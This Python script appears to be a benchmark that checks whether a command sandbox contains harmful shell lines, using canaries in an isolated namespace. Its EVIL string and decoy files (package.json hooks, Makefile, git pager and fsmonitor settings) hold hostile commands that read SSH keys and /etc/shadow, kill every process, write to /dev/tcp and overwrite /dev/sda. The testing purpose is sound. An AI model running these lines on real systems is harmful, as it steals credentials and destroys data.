"""Does the wall hold without the policy? Every harmful line is run behind it, as root and as a user, in a throw-away machine.

    python benchmarks/look_attack.py [--user] [--lines FILE] [--sample N] [--seed S]

Method: a copy-on-write view of this machine (overlay, its upper layer in memory) with mounts, processes, network, IPC and host
name of its own. In it lie canaries: a token in every secret place, processes that run beside, servers on loopback, on the name
server's address and on the sockets of docker, D-Bus, a database and the log, files called like disks. Then each line of the
corpus (or of FILE: JSON objects with `command`, or one command a line) is run in a fresh looking shell as if a judge had said
`look` to everything. Afterwards: what the overlay's upper layer holds that was not there before, what the servers and the
network device counted, which canary processes are gone, which output holds a token. Every figure but the first must be 0.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import select
import shlex
import socket
import subprocess
import sys
import sysconfig
import tempfile
import threading
import time
import traceback
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

ROOT = Path(__file__).parent.parent
sys.path.insert(0, str(ROOT))

WORK = "/srv/attack"
TOKEN = "CANARY-TOKEN-"
ENTER = r"""
set -e
folder=$1; shift
mount -t tmpfs none "$folder" && cd "$folder" && mkdir upper work view
mount -t overlay overlay -o lowerdir=/,upperdir=upper,workdir=work view
mount -t proc none view/proc; mount -t sysfs -o ro none view/sys
mount -t tmpfs none view/dev; mount -t tmpfs none view/tmp; chmod 1777 view/tmp; mount -t tmpfs none view/run
for name in null zero full random urandom tty; do touch view/dev/$name; mount --bind /dev/$name view/dev/$name; done
mkdir view/dev/pts view/dev/shm view/dev/net; mount -t devpts -o newinstance,ptmxmode=666,mode=620 none view/dev/pts
ln -s pts/ptmx view/dev/ptmx; ln -s /proc/self/fd view/dev/fd; chmod 1777 view/dev/shm
for disk in sda sda1 sdb vda nvme0n1 mem kmem; do echo "$CANARY"disk > view/dev/$disk; done
mkdir -p view/work view/tmp/out; for which in all default; do echo 1 > /proc/sys/net/ipv6/conf/$which/disable_ipv6; done
ip link set lo up
ip link add outside type veth peer name beyond; ip link set beyond up; ip addr add 10.255.255.53/24 dev outside
ip link set outside up; ip route add default via 10.255.255.1
chroot view "$@" || echo "it ended with $?"
find upper -newerct "@$(cat view/tmp/began)" -printf '##/%P\n'
"""


@contextmanager
def bounded(most: int = 1000) -> Iterator[list[str]]:
    """Words that start a command in a control group of so many processes; none where no such group can be made.

    A look may take processes and memory without end, so whoever lets strangers' bombs off must set the bound.
    """
    for base in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup"):
        group = Path(base) / f"skillrun-attack-{os.getpid()}"
        try:
            group.mkdir()
        except OSError:
            continue
        try:
            (group / "pids.max").write_text(str(most))
            yield ["sh", "-c", f'echo $$ > {group}/cgroup.procs && exec "$@"', "sh"]
            return
        except OSError:
            continue  # no such controller here
        finally:
            for _ in range(50):
                try:
                    group.rmdir()
                    break
                except OSError:
                    time.sleep(0.1)
    yield []


def lines_of(path: str | None) -> list[str]:
    """The harmful lines: every one of the corpus that must not be allowed, or those of a file."""
    if path is None:
        from tests.policy_corpus import cases

        known = [
            case.command
            for case in cases()
            if case.file in ("attacks", "floor", "kinds") and case.verdict in ("refuse", "deny")
        ]
        fresh = (ROOT / "tests" / "cases" / "policy" / "fresh.txt").read_text("utf-8").splitlines()
        return [*known, *(line[2:] for line in fresh if line.startswith(("N ", "D ")))]
    found = []
    for line in Path(path).read_text("utf-8").splitlines():
        row = json.loads(line) if line.startswith("{") else {"command": line}
        if row.get("want") != "allow":
            found.append(row["command"].replace("⏎", "\n"))
    return found


EVIL = r"""touch /etc/x /etc/cron.d/x ~/.bashrc-x /srv/attack-x /tmp/pwn /var/tmp/pwn 2>/dev/null
echo evil >> ~/.bashrc; cat ~/.ssh/id_rsa /etc/shadow /home/*/.ssh/id_rsa /root/.ssh/id_rsa ~/.netrc 2>/dev/null
tr '\0' '\n' < /proc/1/environ 2>/dev/null; kill -9 -1 2>/dev/null; kill -9 1; pkill -9 sleep
chmod 777 /etc/hostname /srv/attack
echo x > /dev/tcp/10.255.255.1/80; echo x > /dev/udp/10.255.255.53/53; echo x > /dev/tcp/127.0.0.1/6379
mv /etc/hostname /etc/hostname.x; rm -rf /srv/attack/precious; ln -s /etc/x /srv/attack/y
truncate -s 0 /etc/hosts; echo > /dev/sda
"""


def furnish(home: Path) -> None:
    """Canaries in every secret place, and the files that harmful lines speak of."""

    from skillrun.looking.readable import _patterns

    count = 0
    for pattern in _patterns():
        if pattern.startswith(("**/", "/proc/", "~/Library")) or any(each.startswith(pattern + "/") for each in _patterns()):
            continue
        path = pattern.replace("/**", "/canary").replace("**", "").replace("*", "canary").replace("?", "x")
        for whose in {home, Path("/root")} if path.startswith("~") else {home}:
            place = Path(str(whose) + path[1:] if path.startswith("~") else path)
            try:
                if place.is_dir():
                    place = place / "canary"
                place.parent.mkdir(parents=True, exist_ok=True)
                with place.open("a") as file:
                    file.write(f"{TOKEN}{count}\n")
                count += 1
            except OSError:
                continue
    for whose in (home, Path("/root")):
        (whose / ".ssh").mkdir(exist_ok=True)
        (whose / ".ssh" / "id_rsa").write_text(f"{TOKEN}ssh\n")
    work = Path(WORK)
    (work / "precious").mkdir(parents=True, exist_ok=True)
    (work / "precious" / "file").write_text("precious\n")
    scripts = {
        "evil": "#!/bin/sh\n" + EVIL,
        "evil.sh": EVIL,
        "evil.exp": f"exec sh -c {{{EVIL}}}\n",
        "b": "#!/bin/sh\n" + EVIL,
        "x": EVIL,
    }
    python = "import os, subprocess\n" + f"subprocess.run(['bash', '-c', {EVIL!r}])\n"
    for name in ("evil.py", "evilmod.py", "setup.py", "evil.ts"):
        scripts[name] = python
    scripts |= {
        "evil.awk": 'BEGIN{system("sh ./evil")}',
        "evil.sed": "1e sh ./evil\n",
        "evil.pl": "system('sh ./evil');\n",
        "f": "a\nb\n",
    }
    scripts |= {
        "a": "a\n",
        "c": "a\n",
        ".env": f"A={TOKEN}env\n",
        "a.c": "int main(){return 0;}\n",
        "Makefile": "all:\n\tsh ./evil\n",
    }
    scripts["package.json"] = json.dumps(
        {"name": "x", "version": "1.0.0", "scripts": dict.fromkeys(("build", "test", "evil", "start"), "sh ./evil")}
    )
    for name, text in scripts.items():
        (work / name).write_text(text)
        (work / name).chmod(0o755)
    subprocess.run(["git", "init", "-q", "."], cwd=work, check=False, capture_output=True)
    with (work / ".git" / "config").open("a") as file:
        file.write("[core]\n\tpager = sh ./evil\n\tfsmonitor = ./evil\n[alias]\n\tx = !sh ./evil\n")
    subprocess.run(["tar", "cf", "a.tar", "a", "c"], cwd=work, check=False)
    for path in (work, home) if home != Path("/root") else ():
        subprocess.run(["chown", "-R", f"--reference={home}", str(path)], check=False)


class Servers:
    """Whatever might be reached: how often somebody did."""

    def __init__(self) -> None:
        self.count: dict[str, int] = {}
        self.sockets: dict[socket.socket, str] = {}
        for port in (80, 8000, 8080, 8500, 6379, 5432, 22, 2375, 9, 25):
            self._add(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port))
        for host in ("10.255.255.53", "127.0.0.1"):
            self._add(socket.AF_INET, socket.SOCK_DGRAM, (host, 53))
        for path in (
            "/run/docker.sock",
            "/run/dbus/system_bus_socket",
            "/run/systemd/private",
            "/run/postgresql/.s.PGSQL.5432",
            "/tmp/tmux-0/default",
        ):
            os.makedirs(os.path.dirname(path), exist_ok=True)
            self._add(socket.AF_UNIX, socket.SOCK_STREAM, path)
            os.chmod(path, 0o777)
        self._add(socket.AF_UNIX, socket.SOCK_STREAM, "\0abstract")
        self._add(socket.AF_UNIX, socket.SOCK_DGRAM, "/dev/log")
        os.chmod("/dev/log", 0o777)
        threading.Thread(target=self._serve, daemon=True).start()

    def _add(self, family: int, kind: int, address: object) -> None:
        one = socket.socket(family, kind)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.bind(address)  # type: ignore[arg-type]
        if kind == socket.SOCK_STREAM:
            one.listen()
        self.sockets[one] = str(address)

    def _serve(self) -> None:
        while True:
            for one in select.select(list(self.sockets), [], [])[0]:
                name = self.sockets[one]
                self.count[name] = self.count.get(name, 0) + 1
                if one.type == socket.SOCK_STREAM:
                    one.accept()[0].close()
                else:
                    one.recv(65536)


def sent() -> int:
    """Packets that left by the device to the outside, but for the kernel's own neighbour and router questions."""
    line = next(line for line in Path("/proc/net/dev").read_text().splitlines() if "outside:" in line)
    return int(line.split(":")[1].split()[9])


def inside(arguments: argparse.Namespace) -> None:
    """Run everything; a JSON object on descriptor 3."""
    import pwd

    who = pwd.getpwnam("attacked" if arguments.user else "root")
    home = Path(who.pw_dir)
    furnish(home)
    servers = Servers()
    canaries = [subprocess.Popen(["sleep", "100000"], start_new_session=True) for _ in range(2)]
    if arguments.user:
        canaries += [
            subprocess.Popen(["setpriv", f"--reuid={who.pw_uid}", f"--regid={who.pw_gid}", "--clear-groups", "sleep", "100000"])
        ]
    time.sleep(0.5)
    before, packets = set(in_memory()), sent()
    Path("/tmp/began").write_text(repr(time.time()))
    time.sleep(0.1)
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reader)
        if arguments.user:
            os.setgroups([])
            os.setresgid(who.pw_gid, who.pw_gid, who.pw_gid)
            os.setresuid(who.pw_uid, who.pw_uid, who.pw_uid)
        del os.environ["CANARY"]
        os.environ.update(
            HOME=who.pw_dir, USER=who.pw_name, LOGNAME=who.pw_name, GITHUB_TOKEN=f"{TOKEN}environment", TERM="dumb"
        )
        status = 1
        try:
            found = attack(json.loads(Path("/tmp/lines.json").read_text()), who.pw_dir)
            with os.fdopen(writer, "w") as file:
                json.dump(found, file)
            status = 0
        except (OSError, ValueError, ImportError, RuntimeError):
            traceback.print_exc()
        finally:
            os._exit(status)
    os.close(writer)
    with os.fdopen(reader) as file:
        text = file.read()
    told = json.loads(text) if text else {"ended": "the attacker's harness died: something reached it"}
    os.waitpid(child, 0)
    time.sleep(0.3)
    told["changed"] = sorted(set(in_memory()) - before)
    told["reached"] = servers.count
    told["packets"] = sent() - packets
    told["killed"] = sum(each.poll() is not None for each in canaries)
    told["precious"] = not (Path(WORK) / "precious" / "file").exists()
    print("@@" + json.dumps(told), flush=True)
    for each in canaries:
        each.kill()


_SHARED = ("/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/tty")
"""This machine's own devices, whose times change with whatever others do; anybody may write to them."""


def in_memory() -> list[str]:
    """Every path of the file systems that lie beside the overlay, with when it changed."""
    found = []
    for top in ("/dev", "/tmp", "/run"):
        for folder, folders, files in os.walk(top):
            folders[:] = [name for name in folders if not os.path.ismount(os.path.join(folder, name))]
            for name in [*folders, *files]:
                path = os.path.join(folder, name)
                if (
                    "skillrun-look-" in path
                    or path in _SHARED
                    or path.startswith(("/tmp/out", "/tmp/began", "/dev/pts"))
                    or not os.path.lexists(path)
                ):
                    continue
                about = os.lstat(path)
                found.append(f"{path} {about.st_ctime_ns} {about.st_mode:o} {about.st_size} {about.st_uid}")
    return found


def attack(commands: list[str], home: str) -> dict[str, object]:
    """Each line in a shell of its own that only looks."""
    from skillrun.looking.wall import Wall
    from skillrun.ports import Command
    from skillrun.pty.environment import command_environment
    from skillrun.pty.session import Limits, Login, Session

    leaks, tried, slow, errors = [], 0, [], []
    wall = Wall(home)
    wall.cwd = WORK  # as the looking shell says it before it starts one
    for number, command in enumerate(commands):
        session = Session(
            Path("/tmp/out"), command_environment(os.environ), WORK, Login("/bin/bash", home, {}), launcher=wall.launch,
            limits=Limits(quiet_s=4.0, command_s=6.0, interrupt_s=0.2, terminate_s=0.2),
        )  # fmt: skip
        began = time.monotonic()
        stream = session.run(Command(command, stdin=""))
        result = None
        try:
            while True:
                next(stream)
        except StopIteration as stop:
            result = stop.value
        if result.state.value in ("waiting", "quiet"):
            stream = session.interrupt()
            try:
                while True:
                    next(stream)
            except StopIteration as stop:
                result = stop.value
        output = result.output + result.screen
        if result.output_file and Path(result.output_file).exists():
            output += Path(result.output_file).read_text(errors="replace")
        if TOKEN in output:
            leaks.append([command, output[max(0, output.index(TOKEN) - 60) : output.index(TOKEN) + 40]])
        if result.state.value == "error":
            errors.append([command, output])
        tried += bool(wall.tried())
        if time.monotonic() - began > 5:
            slow.append(command)
        session.close()
        wall.end()
        if number % 50 == 0:
            print(f"{number} of {len(commands)}", file=sys.stderr, flush=True)
    wall.close()
    return {"lines": len(commands), "stopped": tried, "leaks": leaks, "slow": len(slow), "errors": errors}


def main() -> None:
    """Outside: build the machine, run the inside, print the figures."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--user", action="store_true")
    parser.add_argument("--lines")
    parser.add_argument("--sample", type=int, default=0)
    parser.add_argument("--seed", type=int, default=int(time.time()))
    parser.add_argument("--inside", action="store_true")
    arguments = parser.parse_args()
    if arguments.inside:
        inside(arguments)
        return
    from skillrun.policy.judge import Judge
    from skillrun.ports import Place
    from tests.checkout import also_shown

    commands = lines_of(arguments.lines)
    if arguments.sample:
        print(f"seed {arguments.seed}")
        commands = random.Random(arguments.seed).sample(commands, min(arguments.sample, len(commands)))
    with tempfile.TemporaryDirectory(prefix="skillrun-attack-", dir="/var/tmp") as folder:
        listed = Path(folder) / "lines.json"
        listed.write_text(json.dumps(commands))
        user = "useradd -m attacked 2>/dev/null; " if arguments.user else ""
        python = "/usr/bin/python3" if arguments.user else sys.executable  # a user may not see where ours lies
        again = (
            f"{shlex.quote(python)} {shlex.quote(str(Path(__file__).resolve()))} --inside {'--user' if arguments.user else ''}"
        )
        above = shlex.join(str(each) for each in (*reversed(ROOT.parents), ROOT) if str(each) != "/")
        shell = f"{user}chmod a+rx {above} 2>/dev/null; exec {again}"
        enter = ENTER.replace(
            'chroot view "$@"',
            f"{also_shown('view') if ROOT.is_relative_to('/tmp') else ''}"  # the machine has a /tmp of its own
            f'cp {listed} view/tmp/lines.json; chmod 644 view/tmp/lines.json; chmod 1777 view/tmp/out\nchroot view "$@"',
        )
        where = Path(folder) / "machine"
        where.mkdir()
        apart = ["unshare", "--mount", "--pid", "--net", "--ipc", "--uts", "--fork", "--propagation", "private"]
        environment = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME": "/root"}
        environment |= {
            "CANARY": TOKEN,
            "LANG": "C.UTF-8",
            "PYTHONDONTWRITEBYTECODE": "1",
            "PYTHONPATH": sysconfig.get_paths()["purelib"],
        }
        with bounded() as within:
            judge, here = Judge(), Place("/root", "/root", "root", {"PATH": "/usr/bin:/bin", "HOME": "/root"})
            rule = "floor:fork-bomb"
            bombs = [] if within else [each for each in commands if judge.command(each, here).decision.rule == rule]
            if bombs:
                print(f"{len(bombs)} lines that start processes without end are left out: nothing bounds them here")
                listed.write_text(json.dumps([line for line in commands if line not in bombs]))
            done = subprocess.run(
                [*within, *apart, "bash", "-c", enter, "sh", str(where), "bash", "-c", shell],
                env=environment,
                stdout=subprocess.PIPE,
                text=True,
                check=False,
                errors="replace",
            )
    told = next((json.loads(line[2:]) for line in done.stdout.splitlines() if line.startswith("@@")), None)
    if told is None:
        sys.exit(f"the machine ended without a word ({done.returncode})\n{done.stdout[-2000:]}")
    told["changed"] += [
        line[2:] for line in done.stdout.splitlines() if line.startswith("##/") and not line.startswith("##/tmp/skillrun-look-")
    ]
    print(json.dumps(told, indent=1))
    bad = (
        told.get("ended")
        or told["changed"]
        or told["reached"]
        or told["packets"]
        or told["killed"]
        or told.get("leaks")
        or told["precious"]
    )
    sys.exit(1 if bad else 0)


if __name__ == "__main__":
    main()
